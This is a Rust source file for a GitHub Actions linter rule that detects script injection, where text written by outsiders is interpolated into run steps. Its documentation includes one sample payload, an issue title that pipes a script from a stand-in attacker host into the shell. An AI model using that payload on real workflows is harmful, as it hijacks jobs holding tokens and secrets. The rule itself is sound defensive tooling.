//! The rule `script-injection`.

use crate::evidence::{Evidence, File};
use crate::parse::workflow::{Expression, Step, Uses};
use crate::rules::support::outsiders::{self, Content, Outsiders, Reach, Taint};
use crate::rules::support::words::count;
use crate::rules::{Sink, Spot, rule};
use serde::Deserialize;

rule! {
    /// # What it checks
    ///
    /// No text that outsiders write is put into a script by `${{ }}`: into `run`, or into the input of an action that
    /// runs it (`script` of `actions/github-script`). Such texts are titles and bodies of issues, pull requests and
    /// discussions, comments, reviews, messages and authors of commits, names of wiki pages, and branches of forks.
    /// A text is followed through `env`, outputs of jobs, outputs and variables that a script writes, and the inputs of
    /// local actions and workflows.
    ///
    /// Not judged: numbers, hashes, ids, logins and other values that hold no code; `env`, `if` and the inputs of other
    /// actions, where an expression is a value; results of `contains()`, `==` and the like; events that do not carry the
    /// text; places behind a condition on the author, the repository of the head, a label, or a check of rights.
    ///
    /// In a workflow for `pull_request`, who opens a pull request of a fork may change the workflow itself, and the run
    /// has no secrets. Names of branches are judged there only with `every_trigger`; titles and other free texts always,
    /// for one quote in them breaks the script.
    ///
    /// # Why it matters
    ///
    /// The expression is replaced before the shell sees the script. A title like `"; curl evil.example | sh; "` is then
    /// a command, which runs with the token and the secrets of the job.
    ///
    /// # Example
    ///
    /// ```yaml .github/workflows/triage.yml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - run: echo "New issue ${{ github.event.issue.title }}"
    /// ```
    ///
    /// # Instead
    ///
    /// ```yaml .github/workflows/triage.yml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-24.04
    ///     steps:
    ///       - env:
    ///           TITLE: ${{ github.event.issue.title }}
    ///         run: echo "New issue $TITLE"
    /// ```
    ///
    /// # Options
    ///
    /// - `every_trigger`: `true` also judges names of branches where no secrets are at stake (`pull_request`).
    ///   Default: `false`.
    ///
    /// # When to waive
    ///
    /// A step before it makes sure that the text is harmless, or the repository is private and everybody in it is
    /// trusted.
    pub struct ScriptInjection;
    id: "script-injection",
    family: Security,
    level: Error,
    since: "0.1.0",
    params: Params,
    check: check,
}

/// What a policy may set.
#[derive(Debug, Default, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Params {
    every_trigger: bool,
}

const WHY: &str = "The text becomes part of the script before the shell reads it, so whoever writes it can run commands with the job's token and secrets.";

/// Inputs of actions that are run as a script, in lower case.
const SCRIPT_INPUTS: [(&str, &str); 17] = [
    ("actions/github-script", "script"),
    ("addnab/docker-run-action", "run"),
    ("appleboy/ssh-action", "script"),
    ("azure/cli", "inlinescript"),
    ("azure/powershell", "inlinescript"),
    ("cross-platform-actions/action", "run"),
    ("devcontainers/ci", "runcmd"),
    ("jannekem/run-python-script-action", "script"),
    ("nick-fields/retry", "command"),
    ("nick-invision/retry", "command"),
    ("reactivecircus/android-emulator-runner", "script"),
    ("uraimo/run-on-arch-action", "run"),
    ("vmactions/freebsd-vm", "run"),
    ("vmactions/netbsd-vm", "run"),
    ("vmactions/openbsd-vm", "run"),
    ("vmactions/solaris-vm", "run"),
    ("wandalen/wretry.action", "command"),
];

fn check(evidence: &Evidence<'_>, params: &Params, sink: &mut Sink<'_>) {
    let outsiders = Outsiders::new(evidence);
    let mut spots = Vec::new();
    let (mut scripts, mut expressions) = (0, 0);
    for workflow in &evidence.workflows {
        scripts += workflow.jobs.iter().flat_map(|job| &job.steps).filter(|step| has_script(step)).count();
        for found in workflow.expressions() {
            let at = outsiders::Spot::of_workflow(workflow.file, &workflow.value, found.site.job, found.site.step);
            expressions += usize::from(is_in_script(&found));
            spots.extend(spot(workflow.file, &outsiders, &at, &found, params));
        }
    }
    for action in &evidence.actions {
        scripts += action.steps.iter().filter(|step| has_script(step)).count();
        for found in action.expressions() {
            let at = outsiders::Spot::of_action(action.file, &action.value, found.site.step);
            expressions += usize::from(is_in_script(&found));
            spots.extend(spot(action.file, &outsiders, &at, &found, params));
        }
    }
    sink.subjects(scripts);
    let scripts = count(scripts, "script");
    sink.fact(format!("{scripts} with {}, {} by outsiders", count(expressions, "expression"), spots.len()));
    sink.once_a_file(
        spots,
        WHY,
        |group| format!("{} expressions put text that outsiders write into scripts", group.len()),
        |group| group.first().map_or(String::new(), |spot| spot.detail.clone()),
    );
}

fn has_script(step: &Step<'_>) -> bool {
    step.run.is_some() || SCRIPT_INPUTS.iter().any(|(_, input)| is_script(step, input))
}

/// Whether an input of a step's action is run as a script.
fn is_script(step: &Step<'_>, input: &str) -> bool {
    let Some(action) = step.uses.as_ref().and_then(Uses::action) else { return false };
    SCRIPT_INPUTS.iter().any(|(name, script)| *name == action && script.eq_ignore_ascii_case(input))
}

fn is_in_script(found: &Expression<'_, '_>) -> bool {
    let Some(step) = found.site.step else { return false };
    match (found.site.key, found.site.name) {
        ("run", None) => true,
        ("with", Some(input)) => is_script(step, input),
        _ => false,
    }
}

fn spot<'e>(
    file: &'e File<'e>,
    outsiders: &Outsiders<'e>,
    at: &outsiders::Spot<'e>,
    found: &Expression<'_, 'e>,
    params: &Params,
) -> Option<Spot<'e>> {
    let expr = found.template.expr.as_ref().ok().filter(|_| is_in_script(found))?;
    let mut taints = outsiders.taints(expr, at);
    taints.retain(|taint| taint.content > Content::Name || taint.reach == Reach::Privileged || params.every_trigger);
    // The first of the worst: those that are at hand most often come first.
    taints.reverse();
    let taint = taints.into_iter().max_by_key(|taint| (taint.reach, taint.content))?;
    let written = file.source.text.get(found.template.span.range())?;
    let held = if expr.contexts().iter().any(|read| read.path() == taint.path) {
        String::new()
    } else {
        format!(", which holds `{}`,", taint.path)
    };
    let message = format!(
        "`{}`{held} becomes part of the script, and {} writes it{}",
        short(written),
        author(&taint),
        rights(&taint)
    );
    let step = found.site.step?;
    Some(Spot {
        file,
        span: found.template.span,
        path: found.node.path(),
        message,
        detail: fix(&taint, step),
        edits: Vec::new(),
    })
}

/// An expression in one line.
fn short(written: &str) -> String {
    let line = written.split_whitespace().collect::<Vec<_>>().join(" ");
    if line.chars().count() <= 80 { line } else { line.chars().take(79).chain(['…']).collect() }
}

fn author(taint: &Taint) -> &'static str {
    let field = taint.path.trim_start_matches("github.").trim_start_matches("event.");
    match field.split('.').next().unwrap_or_default() {
        "issue" => "whoever opens an issue",
        "comment" => "whoever comments",
        "review" => "whoever reviews a pull request",
        "discussion" => "whoever opens a discussion",
        "pages" => "whoever edits the wiki",
        "commits" | "head_commit" => "the author of a commit",
        "workflow_run" => "the author of what ran before",
        "changes" => "whoever edited it",
        _ => "whoever opens a pull request",
    }
}

fn rights(taint: &Taint) -> &'static str {
    match taint.reach {
        Reach::Limited => "; for a fork the run has no secrets, but one quote in the text breaks the script",
        Reach::Admitted | Reach::Unknown => "; one quote in the text breaks the script",
        Reach::Privileged => "",
    }
}

fn fix(taint: &Taint, step: &Step<'_>) -> String {
    let last = taint.path.rsplit('.').next().unwrap_or_default();
    let name = match last {
        "head_ref" | "ref" | "head_branch" | "label" | "default_branch" => "BRANCH".to_owned(),
        "from" => "BEFORE".to_owned(),
        name => name.to_ascii_uppercase(),
    };
    let path = taint.path.replace(".*.", "[0].");
    let (key, used) = if step.run.is_some() {
        let shell = step.node.get("shell").and_then(crate::parse::yaml::Node::text).unwrap_or_default();
        match shell.split_whitespace().next() {
            Some("pwsh" | "powershell") => ("run", format!("Write-Output \"$env:{name}\"")),
            Some("python") => ("run", format!("print(os.environ[\"{name}\"])")),
            _ => ("run", format!("echo \"${name}\"")),
        }
    } else {
        ("with:\n      script", format!("console.log(process.env.{name})"))
    };
    format!(
        "Give the text to the script in an environment variable, and use that in quotes:\n\n    env:\n      {name}: ${{{{ {path} }}}}\n    {key}: {used}\n"
    )
}
